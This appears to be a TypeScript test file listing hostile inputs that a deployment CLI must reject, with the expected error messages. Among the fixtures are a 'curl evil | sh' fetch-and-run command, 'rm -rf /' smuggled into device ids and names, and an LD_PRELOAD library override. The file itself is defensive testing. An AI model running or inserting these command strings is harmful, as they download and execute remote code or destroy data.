import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import type { Sandbox } from '../../helpers/sandbox.js';
import type { HostileCase } from '../harness.js';

const CHECK = ['install', '--check', '--non-interactive'];
const long = (n: number, ch = 'a') => ch.repeat(n);
const ANSWERS = 'var/lib/service-deploy/answers.json';

/** Replaces a file of the server for one case; the returned function puts it back. */
function tamperFile(rel: string, edit: (text: string) => string | undefined): (sb: Sandbox) => () => void {
  return (sb) => {
    const file = path.join(sb.root, rel);
    const before = fs.readFileSync(file);
    const mode = fs.statSync(file).mode & 0o777;
    const next = edit(before.toString('utf8'));
    if (next !== undefined) fs.writeFileSync(file, next, { mode });
    return () => fs.writeFileSync(file, before, { mode });
  };
}

function editAnswers(change: (a: Record<string, unknown>) => void): (sb: Sandbox) => () => void {
  return tamperFile(ANSWERS, (text) => {
    const answers = JSON.parse(text) as Record<string, unknown>;
    change(answers);
    return `${JSON.stringify(answers, null, 2)}\n`;
  });
}

/** A FIFO in the inputs folder (reading it would wait forever for a writer). */
function fifo(name: string): (inputs: string) => void {
  return (inputs) => {
    const p = path.join(inputs, name);
    if (!fs.existsSync(p)) execFileSync('mkfifo', [p]);
  };
}

/** Holds the install lock as a live process (this test runner) would. */
function lockHeld(sb: Sandbox): () => void {
  const lock = path.join(sb.root, 'run/service-deploy/install.lock');
  fs.mkdirSync(path.dirname(lock), { recursive: true });
  const stat = fs.readFileSync(`/proc/${process.pid}/stat`, 'utf8');
  const start = stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19];
  fs.writeFileSync(lock, `${process.pid} ${start}\n`, { mode: 0o600 });
  return () => fs.rmSync(lock, { force: true });
}

/** Flags, answers (flags, files, the answers file, the stored answers.json) and commands. */
export const FLAG_CASES: HostileCase[] = [
  // answers given as flags
  { kind: '--customer-name with an ANSI escape', args: [...CHECK, '--customer-name', 'Acme\u001b[31m'], mention: /customer name \(from --customer-name\): customer name contains a control character \(U\+001B\)/ },
  { kind: '--customer-name empty', args: [...CHECK, '--customer-name', ''], mention: /customer name \(from --customer-name\): customer name is empty/ },
  // Any printable name is a display name (issue 30.6); in any script the length limit holds.
  { kind: '--customer-name of 81 characters in Japanese', args: [...CHECK, '--customer-name', '歯'.repeat(81)], mention: /customer name \(from --customer-name\): customer name is longer than 80 characters/ },
  { kind: '--customer-name of 81 characters', args: [...CHECK, '--customer-name', long(81)], mention: /customer name \(from --customer-name\): customer name is longer than 80 characters/ },
  { kind: '--customer-name with a bidi override', args: [...CHECK, '--customer-name', 'Acme\u202egnp.exe'], mention: /--customer-name\): customer name contains a bidirectional text control/ },
  { kind: '--customer-name with a newline', args: [...CHECK, '--customer-name', 'Acme\nrm -rf /'], mention: /--customer-name\): customer name contains a control character \(U\+000A\)/ },
  { kind: '--model with spaces', args: [...CHECK, '--model', 'bad model'], mention: /model ID \(from --model\): model ID may contain only/ },
  { kind: '--model of 201 characters', args: [...CHECK, '--model', long(201)], mention: /model ID \(from --model\): model ID is longer than 200 characters/ },
  { kind: '--model with a newline', args: [...CHECK, '--model', 'm\nx'], mention: /model ID \(from --model\): model ID contains a control character/ },
  { kind: '--model empty', args: [...CHECK, '--model', ''], mention: /model ID \(from --model\): model ID is empty/ },
  { kind: '--mesh-hostname uppercase', args: [...CHECK, '--mesh-hostname', 'UPPER'], mention: /mesh network hostname \(from --mesh-hostname\)/ },
  { kind: '--mesh-hostname with an underscore', args: [...CHECK, '--mesh-hostname', 'a_b'], mention: /--mesh-hostname\): mesh network hostname must be a DNS label/ },
  { kind: '--mesh-hostname of 64 characters', args: [...CHECK, '--mesh-hostname', long(64)], mention: /--mesh-hostname\): mesh network hostname is longer than 63 characters/ },
  // secrets from files
  { kind: '--api-key-file missing', args: [...CHECK, '--api-key-file', 'missing.key'], mention: /--api-key-file missing\.key: there is no such file/ },
  { kind: '--api-key-file a folder', args: [...CHECK, '--api-key-file', '/'], mention: /--api-key-file \/: not a regular file/ },
  { kind: '--api-key-file a device (/dev/zero)', args: [...CHECK, '--api-key-file', '/dev/zero'], mention: /--api-key-file \/dev\/zero: not a regular file/ },
  { kind: '--api-key-file larger than 64 KiB', args: [...CHECK, '--api-key-file', 'big.key'], inputs: { 'big.key': `pkt_${long(70_000)}\n` }, mention: /--api-key-file big\.key: larger than 64 KiB/ },
  { kind: '--api-key-file not UTF-8', args: [...CHECK, '--api-key-file', 'latin1.key'], inputs: { 'latin1.key': Buffer.from([0x70, 0x6b, 0x74, 0x5f, 0xe9, 0xff, 0x0a]) }, mention: /--api-key-file latin1\.key: not valid UTF-8 text/ },
  { kind: '--api-key-file with a wrong key', args: [...CHECK, '--api-key-file', 'wrong.key'], inputs: { 'wrong.key': 'sk-not-a-service-key-123\n' }, mention: /service API key \(from --api-key-file\): service API key must start with pkt_/ },
  { kind: '--mesh-auth-key-file with an escape', args: [...CHECK, '--mesh-auth-key-file', 'mesh.key'], inputs: { 'mesh.key': 'tskey-\u001b[8m\n' }, mention: /mesh network auth key \(from --mesh-auth-key-file\): mesh network auth key contains a control character/ },
  { kind: '--mcp-token-file with a space', args: [...CHECK, '--mcp-token-file', 'mcp.token'], inputs: { 'mcp.token': 'mcp tok\n' }, mention: /service MCP token \(from --mcp-token-file\): service MCP token must not contain spaces/ },
  { kind: '--mcp-token-file empty', args: [...CHECK, '--mcp-token-file', 'empty.token'], inputs: { 'empty.token': '' }, mention: /service MCP token \(from --mcp-token-file\): service MCP token is empty/ },
  // --answers FILE
  { kind: '--answers missing', args: [...CHECK, '--answers', 'nope.json'], mention: /--answers nope\.json: there is no such file/ },
  { kind: '--answers not JSON', args: [...CHECK, '--answers', 'bad.json'], inputs: { 'bad.json': '{ customerName: ' }, mention: /--answers bad\.json: not valid JSON/ },
  { kind: '--answers an array', args: [...CHECK, '--answers', 'array.json'], inputs: { 'array.json': '["a"]' }, mention: /--answers array\.json: expected a JSON object/ },
  { kind: '--answers with an unknown field', args: [...CHECK, '--answers', 'unknown.json'], inputs: { 'unknown.json': '{ "postInstall": "curl evil | sh" }' }, mention: /--answers unknown\.json: unknown field "postInstall"/ },
  { kind: '--answers with a number for a field', args: [...CHECK, '--answers', 'number.json'], inputs: { 'number.json': '{ "modelId": 42 }' }, mention: /--answers number\.json: modelId must be a string/ },
  { kind: '--answers customer name with an escape', args: [...CHECK, '--answers', 'esc.json'], inputs: { 'esc.json': JSON.stringify({ customerName: 'A\u001b]0;x\u0007' }) }, mention: /customer name \(from --answers file\): customer name contains a control character/ },
  { kind: '--answers API key with a newline', args: [...CHECK, '--answers', 'nl.json'], inputs: { 'nl.json': JSON.stringify({ apiKey: 'pkt_0123456789\nabc' }) }, mention: /service API key \(from --answers file\): service API key contains a control character/ },
  { kind: '--answers larger than 64 KiB', args: [...CHECK, '--answers', 'huge.json'], inputs: { 'huge.json': JSON.stringify({ customerName: long(70_000) }) }, mention: /--answers huge\.json: larger than 64 KiB/ },
  { kind: '--answers a FIFO', args: [...CHECK, '--answers', 'answers.fifo'], setup: fifo('answers.fifo'), mention: /--answers answers\.fifo: not a regular file/ },
  { kind: '--mesh-auth-key-file a FIFO', args: [...CHECK, '--mesh-auth-key-file', 'key.fifo'], setup: fifo('key.fifo'), mention: /--mesh-auth-key-file key\.fifo: not a regular file/ },
  // --lock-timeout
  { kind: '--lock-timeout empty', args: [...CHECK, '--lock-timeout', ''], mention: /--lock-timeout "": is empty/ },
  { kind: '--lock-timeout negative', args: [...CHECK, '--lock-timeout=-5'], mention: /--lock-timeout "-5": is negative/ },
  { kind: '--lock-timeout not a number', args: [...CHECK, '--lock-timeout', 'abc'], mention: /--lock-timeout "abc": is not a number/ },
  { kind: '--lock-timeout NaN', args: [...CHECK, '--lock-timeout', 'NaN'], mention: /--lock-timeout "NaN": is not a number/ },
  { kind: '--lock-timeout Infinity', args: [...CHECK, '--lock-timeout', 'Infinity'], mention: /--lock-timeout "Infinity": is not a number/ },
  { kind: '--lock-timeout absurd', args: [...CHECK, '--lock-timeout', '99999999'], mention: /--lock-timeout "99999999": is more than 86400 seconds/ },
  { kind: '--lock-timeout with exponent', args: [...CHECK, '--lock-timeout', '1e9'], mention: /--lock-timeout "1e9": is not a number/ },
  // usage
  { kind: 'install: unknown flag', args: ['install', '--frobnicate'], mention: /--frobnicate is not an option of `install`/ },
  { kind: 'install: a secret as a flag', args: ['install', '--api-key', 'pkt_secret_in_argv'], mention: /--api-key is not accepted: process arguments are visible/ },
  { kind: 'install --reset-clean without --yes and without a terminal', args: ['install', '--reset-clean'], mention: /needs confirmation[\s\S]*--yes/ },
  { kind: 'restore: with --reset-clean', args: ['restore', 'x.tar.gz', '--reset-clean'], mention: /--reset-clean is not an option of `restore`/ },
  { kind: 'restore: archive missing', args: ['restore', '/tmp/openclaw-backup-none.tar.gz'], mention: /backup archive \/tmp\/openclaw-backup-none\.tar\.gz does not exist/ },
  { kind: 'restore: archive is a folder', args: ['restore', '.'], mention: /backup archive \. is not a regular file/ },
  { kind: 'restore: archive is a FIFO', args: ['restore', 'archive.fifo'], setup: fifo('archive.fifo'), mention: /backup archive archive\.fifo is not a regular file/ },
  { kind: 'restore: --max-entry-mib 0', args: ['restore', 'x.tar.gz', '--max-entry-mib', '0'], mention: /--max-entry-mib "0": must be between 1 and/ },
  { kind: 'restore: --max-total-mib not a number', args: ['restore', 'x.tar.gz', '--max-total-mib', 'lots'], mention: /--max-total-mib "lots": must be a whole number/ },
  { kind: 'restore: --max-entry-mib empty', args: ['restore', 'x.tar.gz', '--max-entry-mib', ''], mention: /--max-entry-mib is empty/ },
  { kind: 'restore: no archive given', args: ['restore'], mention: /`service-deploy restore` needs ARCHIVE, the backup to put back/ },
  { kind: 'render: unknown file', args: ['render', 'passwd'], mention: /Invalid values[\s\S]*passwd/ },
  { kind: 'gateway logs -n -5', args: ['gateway', 'logs', '-n', '-5'], mention: /--lines "-5": is negative: give a whole number from 1 to 100000/ },
  { kind: 'gateway logs -n 0', args: ['gateway', 'logs', '-n', '0'], mention: /--lines "0": must be a whole number from 1 to 100000/ },
  { kind: 'gateway logs -n 1000000', args: ['gateway', 'logs', '-n', '1000000'], mention: /--lines "1000000": must be a whole number from 1 to 100000/ },
  { kind: 'backup --keep abc', args: ['backup', '--keep', 'abc'], mention: /--keep "abc": must be a whole number/ },
  { kind: 'gateway logs -n abc', args: ['gateway', 'logs', '-n', 'abc'], mention: /--lines "abc": is not a number: give a whole number from 1 to 100000/ },
  { kind: 'gateway: unknown action', args: ['gateway', 'explode'], mention: /Invalid values[\s\S]*explode/ },
  { kind: 'devices approve: an id with shell characters', args: ['devices', 'approve', 'abc;rm -rf /'], mention: /"abc;rm -rf \/" is not a device request id/ },
  { kind: 'devices approve: an id with an escape', args: ['devices', 'approve', 'req\u001b[2J'], mention: /is not a device request id/ },
  { kind: 'devices remove: an id with shell characters', args: ['devices', 'remove', 'abcdefgh;rm -rf /'], mention: /"abcdefgh;rm -rf \/" is not a device id/ },
  { kind: 'devices remove: an id too short to name one device', args: ['devices', 'remove', 'abc'], mention: /"abc" is not a device id \(at least its first 8 characters\)/ },
  { kind: 'devices: no subcommand', args: ['devices'], mention: /give a subcommand: list, approve <id> or remove <device-id>/ },
  { kind: 'doctor: unknown check', args: ['doctor', 'no-such-check'], mention: /unknown check no-such-check/ },
  { kind: 'chat: a secret as a flag', args: ['chat', '-m', 'hi', '--token', 'secret-token-in-argv'], mention: /secrets are not accepted as flags/ },
  { kind: 'chat: --pin not a fingerprint', args: ['chat', '-m', 'hi', '--url', 'https://127.0.0.1:18790', '--pin', 'nothex'], env: { SERVICE_CHANNEL_TOKEN: long(32), SERVICE_CHANNEL_KNOCK: long(32, 'b') }, mention: /--pin nothex is not a SHA-256 fingerprint/ },
  { kind: 'chat: --pin and --insecure together', args: ['chat', '-m', 'hi', '--url', 'https://127.0.0.1:18790', '--pin', 'a'.repeat(64), '--insecure'], env: { SERVICE_CHANNEL_TOKEN: long(32), SERVICE_CHANNEL_KNOCK: long(32, 'b') }, mention: /--pin and --insecure exclude each other/ },
  { kind: 'chat: --url not https', args: ['chat', '-m', 'hi', '--url', 'http://127.0.0.1:18790'], env: { SERVICE_CHANNEL_TOKEN: long(32), SERVICE_CHANNEL_KNOCK: long(32, 'b') }, mention: /the channel URL must be https/ },
  { kind: 'chat: --url with another path', args: ['chat', '-m', 'hi', '--url', 'https://127.0.0.1:18790/admin'], env: { SERVICE_CHANNEL_TOKEN: long(32), SERVICE_CHANNEL_KNOCK: long(32, 'b') }, mention: /the channel path is/ },
  { kind: 'partner onboard: the API key as a flag', args: ['partner', 'onboard', '--email', 'a@example.com', '--first-name', 'A', '--last-name', 'B', '--phone', '+14155552671', '--company', 'C', '--api-key', 'pkt_secret'], mention: /--api-key is not accepted/ },
  { kind: 'partner onboard: --body missing', args: ['partner', 'onboard', '--body', 'nobody.json'], env: { SERVICE_PARTNER_API_KEY: 'pkt_partner_0123456789' }, mention: /cannot read --body nobody\.json/ },
  { kind: 'partner onboard: --body not JSON', args: ['partner', 'onboard', '--body', 'body.json'], inputs: { 'body.json': '{ nope' }, env: { SERVICE_PARTNER_API_KEY: 'pkt_partner_0123456789' }, mention: /--body body\.json is not valid JSON/ },
  { kind: 'partner onboard: bad e-mail', args: ['partner', 'onboard', '--email', 'not-an-email', '--first-name', 'A', '--last-name', 'B', '--phone', '+14155552671', '--company', 'C'], env: { SERVICE_PARTNER_API_KEY: 'pkt_partner_0123456789' }, mention: /email/ },
  { kind: 'partner onboard: bad phone', args: ['partner', 'onboard', '--email', 'a@example.com', '--first-name', 'A', '--last-name', 'B', '--phone', '123', '--company', 'C'], env: { SERVICE_PARTNER_API_KEY: 'pkt_partner_0123456789' }, mention: /phone/i },
  { kind: 'partner onboard-flow: bad --member', args: ['partner', 'onboard-flow', '--member', 'nobody'], env: { SERVICE_PARTNER_API_KEY: 'pkt_partner_0123456789' }, mention: /--member "nobody": expected email:name/ },
  { kind: 'partner: no subcommand', args: ['partner'], mention: /name a partner subcommand/ },
  { kind: 'partner map-agent: --timeout negative', args: ['partner', 'map-agent', '--timeout', '-3', '--customer-id', 'c1', '--agent-id', 'a1', '--provider', 'voice-one', '--profit-multiplier', '1.5'], env: { SERVICE_PARTNER_API_KEY: 'pkt_partner_0123456789' }, mention: /--timeout "-3": is negative: give a number above 0, at most 600/ },
  { kind: 'status: unknown flag', args: ['status', '--all'], mention: /--all is not an option of `status`/ },
  { kind: 'profile: extra argument', args: ['profile', 'extra'], mention: /unexpected argument "extra" for `profile`/ },
  // the stored answers.json, hand-edited: refused naming the file and the field
  { kind: 'answers.json: customer name with an escape', args: CHECK, tamper: editAnswers((a) => (a.customerName = 'Acme\u001b[2J')), mention: /\/var\/lib\/service-deploy\/answers\.json: customerName: customer name contains a control character/ },
  { kind: 'answers.json: not JSON', args: CHECK, tamper: tamperFile(ANSWERS, () => '{ "customerName": '), mention: /answers\.json: \(file\): not valid JSON/ },
  { kind: 'answers.json: an unknown field', args: CHECK, tamper: editAnswers((a) => (a.extra = 'x')), mention: /answers\.json: extra: unknown field/ },
  { kind: 'answers.json: API key without pkt_', args: CHECK, tamper: editAnswers((a) => (a.apiKey = 'sk-0123456789abcdef')), mention: /answers\.json: apiKey: service API key must start with pkt_/ },
  { kind: 'answers.json: a field of the wrong type', args: CHECK, tamper: editAnswers((a) => (a.mcpToken = 42)), mention: /answers\.json: mcpToken: / },
  { kind: 'answers.json: a field missing', args: CHECK, tamper: editAnswers((a) => delete a.meshHostname), mention: /answers\.json: meshHostname: / },
  { kind: 'answers.json: model with spaces', args: CHECK, tamper: editAnswers((a) => (a.modelId = 'a b')), mention: /answers\.json: modelId: model ID may contain only/ },
  { kind: 'answers.json: hostname with a bidi override', args: CHECK, tamper: editAnswers((a) => (a.meshHostname = 'host\u202e')), mention: /answers\.json: meshHostname: mesh network hostname contains a bidirectional/ },
  { kind: 'answers.json: override with plain http', args: CHECK, tamper: editAnswers((a) => (a.serviceOverrides = { SERVICE_MCP_URL: 'http://mcp.example' })), mention: /answers\.json: serviceOverrides\.SERVICE_MCP_URL: must be an https URL/ },
  { kind: 'answers.json: override of an unknown variable', args: CHECK, tamper: editAnswers((a) => (a.serviceOverrides = { LD_PRELOAD: '/tmp/x.so' })), mention: /answers\.json: serviceOverrides\.LD_PRELOAD: not a service profile variable/ },
  { kind: 'answers.json: larger than 64 KiB', args: CHECK, tamper: editAnswers((a) => (a.customerName = long(70_000))), mention: /answers\.json is larger than 64 KiB/ },
  { kind: 'answers.json: read by status', args: ['status'], tamper: editAnswers((a) => (a.customerName = 'x\u009bx')), mention: /answers\.json: customerName: customer name contains a C1 control character/ },
  // (doctor diagnoses a broken answers.json rather than refusing it: test/doctor/doctor-cli.test.ts)
  { kind: 'answers.json: read by guard', args: ['guard'], tamper: editAnswers((a) => (a.apiKey = 'pkt_\u001b')), mention: /answers\.json: apiKey: / },
  { kind: 'answers.json: read by render', args: ['render', 'cron'], tamper: editAnswers((a) => (a.meshHostname = 'Bad_Host')), mention: /answers\.json: meshHostname: / },
  // unsafe state
  { kind: 'another install holds the lock', args: ['install', '--non-interactive'], tamper: lockHeld, mention: /another install is running \(pid \d+/ },
  { kind: 'another install holds the lock (reset)', args: ['install', '--reset-clean', '--yes'], tamper: lockHeld, mention: /another install is running/ },
];
